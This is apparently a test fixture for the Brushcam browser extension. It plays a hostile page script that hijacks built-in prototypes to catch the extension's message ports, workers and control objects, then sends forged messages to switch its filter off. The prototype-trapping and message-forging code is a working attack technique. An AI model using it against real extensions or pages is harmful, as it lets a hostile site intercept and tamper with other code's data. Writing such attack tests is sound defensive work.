// What a hostile page script can do to Brushcam's MAIN-world script with the built-ins it shares:
// replace prototype methods, setters and getters, and record whatever Brushcam hands them. Run by
// test/e2e/attacks.test.mjs as a page script (after document_start, as any page script is).
// window.attack.install() sets the traps; window.attack.caught lists what they caught that is
// Brushcam's (message ports, workers, bridge messages, filter settings, objects that can change
// the filter); window.attack.forge() then uses everything caught to switch the filter off.
(() => {
  const apply = Reflect.apply;
  const getOwn = Object.getOwnPropertyDescriptor;
  const define = Object.defineProperty;
  const push = Array.prototype.push;
  const FORGED = { ns: 'brushcam', t: 'config', filter: { kind: 'off' }, assetBase: 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/' };
  const caught = { ports: [], workers: [], messages: [], specs: [], controls: [], where: [] };
  const seen = new WeakSet();
  let busy = false;
  const isSpec = (v) => {
    const k = getOwn(v, 'kind')?.value;
    return k === 'off' || k === 'style' || k === 'anime';
  };

  /** Files `v` under what it is, if it is one of Brushcam's objects. */
  function note(where, v) {
    if (busy || v === null || (typeof v !== 'object' && typeof v !== 'function') || seen.has(v)) return;
    busy = true;
    try {
      let kind = null;
      if (v instanceof MessagePort) kind = 'ports';
      else if (typeof Worker !== 'undefined' && v instanceof Worker) kind = 'workers';
      else if (getOwn(v, 'ns')?.value === 'brushcam') kind = 'messages';
      else if (typeof v === 'object' && isSpec(v)) kind = 'specs';
      else if (typeof v === 'object' && ['setFilter', 'setPreview', 'onBridgeMessage'].some((m) => typeof v[m] === 'function')) kind = 'controls';
      if (kind) {
        seen.add(v);
        apply(push, caught[kind], [v]);
        apply(push, caught.where, [`${kind} via ${where}`]);
      }
    } catch {
      /* a cross-origin object or a revoked proxy */
    } finally {
      busy = false;
    }
  }
  const noteAll = (where, self, args) => {
    note(where, self);
    for (let i = 0; i < args.length; i++) {
      note(where, args[i]);
      // transfer lists and option bags
      if (args[i] && typeof args[i] === 'object' && !busy) {
        try {
          busy = true;
          const inner = Array.isArray(args[i]) ? args[i].slice() : [getOwn(args[i], 'transfer')?.value].filter(Boolean).flat();
          busy = false;
          for (const x of inner) note(where, x);
        } catch {
          busy = false;
        }
      }
    }
  };

  /** Replaces proto[key] (a method) with one that notes `this` and the arguments. */
  function wrapMethod(proto, key, label) {
    const d = getOwn(proto, key);
    if (!d || typeof d.value !== 'function') return;
    const orig = d.value;
    define(proto, key, { ...d, value: function (...args) {
      noteAll(label, this, args);
      return apply(orig, this, args);
    } });
  }
  /** Replaces an accessor, noting `this` (and, for setters, the value). */
  function wrapAccessor(proto, key, label, mapGet = (v) => v) {
    const d = getOwn(proto, key);
    if (!d) return;
    define(proto, key, {
      ...d,
      get: d.get && function () {
        note(label, this);
        const v = apply(d.get, this, []);
        note(label, v);
        return mapGet(v, this);
      },
      set: d.set && function (v) {
        note(label, this);
        return apply(d.set, this, [v]);
      },
    });
  }

  function install() {
    // The reported attack: MessagePort.prototype.postMessage, then synthetic events on the port.
    for (const k of ['postMessage', 'start', 'close', 'addEventListener', 'removeEventListener', 'dispatchEvent']) {
      wrapMethod(MessagePort.prototype, k, `MessagePort.${k}`);
    }
    wrapAccessor(MessagePort.prototype, 'onmessage', 'MessagePort.onmessage');
    for (const k of ['addEventListener', 'removeEventListener', 'dispatchEvent']) wrapMethod(EventTarget.prototype, k, `EventTarget.${k}`);
    // A data getter that also swaps any config for 'off': a parser that read data through it would obey.
    wrapAccessor(MessageEvent.prototype, 'data', 'MessageEvent.data', (v) => (v && getOwn(v, 't')?.value === 'config' ? FORGED : v));
    wrapAccessor(MessageEvent.prototype, 'ports', 'MessageEvent.ports');
    wrapAccessor(MessageChannel.prototype, 'port1', 'MessageChannel.port1');
    wrapAccessor(MessageChannel.prototype, 'port2', 'MessageChannel.port2');
    for (const k of ['postMessage', 'terminate']) wrapMethod(Worker.prototype, k, `Worker.${k}`);
    wrapAccessor(Worker.prototype, 'onmessage', 'Worker.onmessage');
    wrapAccessor(Worker.prototype, 'onerror', 'Worker.onerror');
    // Function.prototype tricks.
    for (const k of ['call', 'apply', 'bind']) wrapMethod(Function.prototype, k, `Function.${k}`);
    // Collections and iteration.
    for (const k of ['map', 'forEach', 'filter', 'push', 'splice', 'shift', 'slice', 'includes', 'indexOf', 'some', 'find', 'concat', 'join']) {
      wrapMethod(Array.prototype, k, `Array.${k}`);
    }
    const arrayIterProto = Object.getPrototypeOf([][Symbol.iterator]());
    const next = arrayIterProto.next;
    define(arrayIterProto, 'next', { value: function () {
      const r = apply(next, this, []);
      note('ArrayIterator.next', r.value);
      return r;
    }, writable: true, configurable: true });
    for (const k of ['add', 'has', 'delete', 'forEach', 'values']) wrapMethod(Set.prototype, k, `Set.${k}`);
    for (const k of ['get', 'set', 'has', 'delete']) {
      wrapMethod(WeakMap.prototype, k, `WeakMap.${k}`);
      wrapMethod(Map.prototype, k, `Map.${k}`);
    }
    // Getters on Object.prototype for fields a parser might look for when they are absent.
    for (const k of ['backend', 'saver', 'stable', 'presentation', 'id', 'filter', 'assetBase', 'everyMs', 'port', 'error', 'secret']) {
      define(Object.prototype, k, { get() {
        note(`Object.prototype.${k}`, this);
        return undefined;
      }, set(v) {
        define(this, k, { value: v, writable: true, enumerable: true, configurable: true });
      }, configurable: true });
    }
    // JSON and string helpers that see settings when they are serialised or tested.
    const stringify = JSON.stringify;
    JSON.stringify = function (...args) {
      noteAll('JSON.stringify', this, args);
      return apply(stringify, this, args);
    };
    wrapMethod(RegExp.prototype, 'test', 'RegExp.test');
    wrapMethod(Promise.prototype, 'then', 'Promise.then');
  }

  /** Uses everything caught to switch Brushcam's filter off. Returns how many attempts it made. */
  function forge() {
    let attempts = 0;
    for (const p of caught.ports) {
      try {
        p.dispatchEvent(new MessageEvent('message', { data: FORGED }));
        p.postMessage(FORGED);
        attempts += 2;
      } catch { /* closed */ }
    }
    for (const w of caught.workers) {
      try {
        w.postMessage({ type: 'filter', filter: { kind: 'off' } });
        w.dispatchEvent(new MessageEvent('message', { data: { type: 'status', status: {} } }));
        attempts += 2;
      } catch { /* terminated */ }
    }
    for (const c of caught.controls) {
      try {
        if (typeof c.setFilter === 'function') c.setFilter({ kind: 'off' });
        if (typeof c.onBridgeMessage === 'function') c.onBridgeMessage(FORGED);
        attempts++;
      } catch { /* not what it seemed */ }
    }
    for (const s of caught.specs) {
      try {
        s.kind = 'off';
        attempts++;
      } catch { /* frozen */ }
    }
    return attempts;
  }

  const summary = () => ({
    ports: caught.ports.length, workers: caught.workers.length, messages: caught.messages.length,
    specs: caught.specs.length, controls: caught.controls.length, where: [...new Set(caught.where)],
  });
  define(window, 'attack', { value: { install, forge, summary, caught }, configurable: true });
})();
